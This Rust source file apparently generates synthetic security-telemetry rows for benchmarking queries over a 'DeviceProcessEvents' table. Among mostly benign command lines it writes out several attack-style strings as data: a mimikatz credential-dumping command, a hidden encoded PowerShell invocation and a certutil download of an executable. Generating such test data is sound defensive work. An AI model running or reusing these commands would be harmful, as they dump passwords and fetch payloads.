//! Rows like those of `DeviceProcessEvents`: a month of 5,000 devices and 3,000 accounts, command lines
//! of which most are alike and each holds a unique identifier, JSON with a few thousand different texts.

use chrono::{DateTime, TimeZone as _, Utc};
use ingest::{Batch, Group, Source};
use lake::Delivery;
use schema::{Column, ColumnType, Table, TableBuilder};
use std::sync::Arc;
use workspace::Workspace;

/// The table.
pub(crate) const TABLE: &str = "DeviceProcessEvents";
/// A term that one row in [`RARE_EVERY`] holds.
pub(crate) const RARE_TERM: &str = "mimikatz";
const RARE_EVERY: u64 = 100_000;
/// Rows of a group, as ingest makes them, and groups of a flush: about 48 MB in memory.
const GROUP_ROWS: u64 = 16_384;
const FLUSH_GROUPS: u64 = 8;

const ACTIONS: [&str; 5] = [
    "ProcessCreated",
    "ConnectionSuccess",
    "FileCreated",
    "LogonSuccess",
    "LogonFailed",
];
const FILES: [&str; 8] = [
    "powershell.exe",
    "cmd.exe",
    "svchost.exe",
    "chrome.exe",
    "rundll32.exe",
    "wscript.exe",
    "explorer.exe",
    "conhost.exe",
];

/// The moment that `now()` stands for.
pub(crate) fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).unwrap()
}

fn mix(number: u64) -> u64 {
    let mut state = number.wrapping_add(0x9e37_79b9_7f4a_7c15);
    state = (state ^ (state >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    state = (state ^ (state >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    state ^ (state >> 31)
}

/// Returns the identifier in the command line of a row.
pub(crate) fn unique_term(row: u64) -> String {
    format!("{:016x}{:016x}", mix(row * 17), mix(row * 17 + 1_000_000_007))
}

fn command_line(row: u64) -> String {
    let id = unique_term(row);
    let choice = mix(row * 11);
    if row % RARE_EVERY == RARE_EVERY / 3 {
        format!("C:\\Temp\\{RARE_TERM}.exe sekurlsa::logonpasswords --id={id}")
    } else if choice.is_multiple_of(997) {
        format!("powershell.exe -NoP -W Hidden -EncodedCommand {id} IEX")
    } else if choice.is_multiple_of(53) {
        format!(
            "cmd.exe /c certutil -urlcache -split -f http://10.0.0.{}/a.exe",
            row % 255
        )
    } else {
        let app = mix(row * 13) % 2_000;
        format!("C:\\Program Files\\App\\app{app}.exe --type=renderer --id={id}")
    }
}

fn table() -> Table {
    let mut table = schema::find_table(TABLE).unwrap().clone();
    for (name, kind) in [("RemoteIP", ColumnType::String), ("RemotePort", ColumnType::Int)] {
        if table.column(name).is_none() {
            table.columns.push(Column::new(name, kind));
        }
    }
    table
}

/// Stores the rows; returns whether they were not there yet.
pub(crate) async fn store(workspace: &Workspace, rows: u64) -> bool {
    let source = Source::from_bytes("bench", format!("bench {rows}").as_bytes());
    let id = source.id().clone();
    if workspace
        .lake()
        .source(id.as_str())
        .await
        .unwrap()
        .is_some_and(|state| state.complete)
    {
        return false;
    }
    let table = Arc::new(table());
    let begin = Utc.with_ymd_and_hms(2026, 10, 1, 0, 0, 0).unwrap().timestamp_micros();
    // The month is the same however many rows there are.
    let step = 30 * 86_400_000_000 / rows;
    let groups = rows.div_ceil(GROUP_ROWS);
    let writer = workspace.lake().writer().await.unwrap();
    let mut waiting = Vec::new();
    for sequence in 1..=groups {
        let mut builder = TableBuilder::new(Arc::clone(&table));
        let at = |name: &str| table.column_index(name).unwrap();
        let (time, device, device_id, action, file, folder, line, account, ip, port, more) = (
            at("Timestamp"),
            at("DeviceName"),
            at("DeviceId"),
            at("ActionType"),
            at("FileName"),
            at("FolderPath"),
            at("ProcessCommandLine"),
            at("AccountName"),
            at("RemoteIP"),
            at("RemotePort"),
            at("AdditionalFields"),
        );
        let first = (sequence - 1) * GROUP_ROWS;
        for row in first..(first + GROUP_ROWS).min(rows) {
            builder.set_datetime(time, begin + i64::try_from(row * step).unwrap());
            builder.set_text(device, &format!("dev-{}", row * 7_919 % 5_000));
            builder.set_text(device_id, &format!("guid-{}", row * 104_729 % 5_000));
            builder.set_text(action, ACTIONS[usize::try_from(mix(row) % 5).unwrap()]);
            builder.set_text(file, FILES[usize::try_from(mix(row * 3) % 8).unwrap()]);
            builder.set_text(folder, &format!("C:\\Windows\\System32\\{}\\bin", mix(row * 5) % 1_000));
            builder.set_text(line, &command_line(row));
            builder.set_text(account, &format!("user{}", mix(row * 19) % 3_000));
            let [a, b, c] = [23, 29, 31].map(|factor| mix(row * factor) % 256);
            builder.set_text(ip, &format!("10.{a}.{b}.{c}"));
            builder.set_long(port, i64::try_from(mix(row * 37) % 65_535).unwrap());
            let json = format!(
                "{{\"UserAgent\":\"ua{}\",\"Score\":{},\"Tags\":[\"a\",\"b{}\"]}}",
                mix(row * 41) % 50,
                mix(row * 43) % 100,
                row % 3
            );
            builder.set_text(more, &json);
            builder.finish_row(&format!("{}-{row:012}-0", id.as_str()));
        }
        let events = builder.len() as u64;
        let group = Group {
            source: id.clone(),
            sequence,
            format: "bench",
            batches: vec![Batch {
                table: Arc::clone(&table),
                rows: builder.finish().unwrap(),
            }],
            events,
            stored: events,
            rejected: 0,
            last: sequence == groups,
            bytes_read: first,
        };
        waiting.push(Delivery::new(Arc::from("bench"), group));
        if waiting.len() as u64 == FLUSH_GROUPS || sequence == groups {
            writer.append(&std::mem::take(&mut waiting)).await.unwrap();
        }
    }
    writer.compact(None).await.unwrap();
    writer.vacuum(std::time::Duration::ZERO, None).await.unwrap();
    true
}
